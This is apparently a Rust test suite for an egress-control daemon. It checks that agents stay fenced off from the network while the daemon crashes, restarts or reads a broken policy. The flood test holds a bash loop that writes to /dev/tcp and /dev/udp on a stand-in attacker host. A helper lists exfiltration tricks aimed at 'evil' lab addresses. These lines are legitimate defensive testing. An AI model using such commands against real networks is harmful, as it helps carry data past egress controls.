//! What the kernel does while egressd is not there, or comes back.

use crate::{
    AGENT,
    attack::{leaks, violations},
    fence,
    fence::Fence,
    places::EVIL,
    policies::{COMMON, with},
    program::poll_for,
    sniffer::mark,
    talker::Talker,
};
use std::{
    process::Stdio,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

#[test]
fn a_killed_daemon_leaves_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.kill();
    stays_closed(&fence, &mut talker);
}

#[test]
fn a_daemon_that_ends_cleanly_leaves_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.shut_down();
    stays_closed(&fence, &mut talker);
}

#[test]
fn a_daemon_that_comes_back_takes_its_agents_over() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("keep db.test 5432");
    talker.does("say before");
    fence.kill();
    talker.does("say meanwhile");
    fence.restart();
    talker.does("say after");
    for trick in ["fetch https://ok.test/", "fetch http://ok.test/", "tcp db.test 5432 again"] {
        talker.does(trick);
    }
    stays_closed(&fence, &mut talker);
}

#[test]
fn direct_flows_of_every_agent_outlive_the_daemon() {
    let mut fence = fence(COMMON);
    let mut talkers = ["left", "right"].map(|name| Talker::start(&fence.agent(name)));
    for talker in &mut talkers {
        talker.does("keep db.test 5432");
        talker.does("say before");
    }
    // Twice, for the second daemon takes over what the first one took over.
    for _ in 0..2 {
        fence.kill();
        for talker in &mut talkers {
            talker.does("say meanwhile");
        }
        let is_back = AtomicBool::new(false);
        std::thread::scope(|scope| {
            for talker in &mut talkers {
                scope.spawn(|| {
                    while !is_back.load(Ordering::Relaxed) {
                        talker.does("say during")
                    }
                });
            }
            fence.restart();
            is_back.store(true, Ordering::Relaxed);
        });
        for talker in &mut talkers {
            talker.does("say after");
            talker.does("tcp db.test 5432 again");
        }
    }
}

#[test]
fn a_rule_that_goes_while_the_daemon_is_dead_goes_for_agents_that_live_on() {
    let mut fence = fence(&with(&[ALT, DB, OK]));
    let mut talker = Talker::start(&fence.agent(AGENT));
    for trick in ["fetch https://ok.test/", "fetch https://alt.test/", "keep db.test 5432", "say before"] {
        talker.does(trick);
    }
    fence.kill();
    fence.write_policy(&with(&[OK]));
    fence.restart();
    talker.does("fetch https://ok.test/");
    let cut = poll_for(Duration::from_secs(1), || (talker.tell("say after") != "ok").then_some(()));
    assert!(cut.is_some(), "the flow lives on without its rule");
    for trick in [
        "fetch https://alt.test/",
        "tcp db.test 5432 again",
        "tcp 10.99.0.12 5432 again",
        "tcp fd99::12 5432 again",
    ] {
        talker.fails(trick);
    }
}

#[test]
fn a_rule_that_stays_while_the_daemon_is_dead_keeps_its_direct_flows() {
    let mut fence = fence(&with(&[ALT, DB, OK]));
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("keep db.test 5432");
    talker.does("fetch https://alt.test/");
    fence.kill();
    // On another line by then.
    fence.write_policy(&with(&[DB, OK]));
    fence.restart();
    for trick in ["say after", "tcp db.test 5432 again", "fetch https://ok.test/"] {
        talker.does(trick);
    }
    talker.fails("fetch https://alt.test/");
}

#[test]
fn a_policy_that_breaks_while_the_daemon_is_dead_keeps_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.kill();
    fence.write_policy("version: 1\nagents: [");
    let outcome = fence.restart_in_vain();
    assert!(
        !outcome.succeeded() && outcome.says("policy.yaml"),
        "it says which file is broken: {outcome:#?}"
    );
    talker.fails("fetch https://ok.test/");
    stays_closed(&fence, &mut talker);
    fence.write_policy(COMMON);
    fence.restart();
    talker.does("fetch https://ok.test/");
    talker.fails("fetch https://evil.test/");
}

#[test]
fn a_flood_finds_no_gap_while_the_daemon_dies_and_comes_back() {
    let mut fence = fence(COMMON);
    let mark = mark();
    let flood = format!(
        "while :; do echo {mark} > /dev/udp/10.99.0.66/9000; echo {mark} > /dev/udp/fd99::66/9000; \
         echo {mark} > /dev/tcp/10.99.0.66/9000; done 2> /dev/null"
    );
    let position = fence.lab().sniffer().position();
    let mut command = fence.agent(AGENT).command(&["bash", "-c", &flood]);
    command.stdin(Stdio::null());
    let flooder = crate::program::Program::start(command);
    crate::program::poll("the flood", || (!fence.agent(AGENT).denials().is_empty()).then_some(()));
    for _ in 0..3 {
        fence.kill();
        fence.restart();
    }
    let lab = fence.lab();
    lab.settle();
    let seen = lab.sniffer().since(position);
    assert!(!seen.iter().any(|frame| frame.carries(mark.as_bytes())), "the flood found a gap");
    assert!(!seen.iter().any(|frame| frame.destination() == Some(EVIL.v4.into())), "the flood found a gap");
    drop(flooder);
    leaks(lab, EVIL, &["echo {mark} > /dev/udp/{v4}/9000"]);
}

#[test]
fn new_agents_can_be_started_after_a_crash() {
    let mut fence = fence(COMMON);
    let _living = Talker::start(&fence.agent("living"));
    fence.kill();
    fence.restart();
    crate::attack::tells_apart(&fence.agent(AGENT), &["curl -sSf -m 5 https://{host}/"]);
}

/// Everything that was denied is denied still. What is allowed may fail, but not stray.
pub fn stays_closed(fence: &Fence, talker: &mut Talker) {
    let tricks = [
        "tcp_send_only 10.99.0.66 9000",
        "tcp_send_only fd99::66 443",
        "udp_sendto 10.99.0.66 9000",
        "udp_connected fd99::66 9000",
        "udp_mapped 10.99.0.66 9000",
        "udp_sendto 10.99.0.66 53",
        "udp_sendto 198.51.100.53 53",
        "ping 10.99.0.66",
        "packet 10.99.0.66",
        "fetch https://evil.test/",
    ];
    for trick in tricks {
        let mark = mark();
        let (answer, frames) = violations(fence.lab(), &mark, || talker.tell(&format!("{trick} {mark}")));
        assert!(frames.is_empty(), "`{trick}` leaked, its answer was {answer}: {frames:#?}");
    }
    let unfenced = tricks.map(|trick| format!("{{trick}} {trick} {{mark}}"));
    leaks(fence.lab(), EVIL, &unfenced.each_ref().map(String::as_str));
}

const OK: &str = "{host: ok.test, private: true}";
const ALT: &str = "{host: alt.test, private: true}";
const DB: &str = "{host: db.test, protocol: tcp, ports: [5432], private: true}";
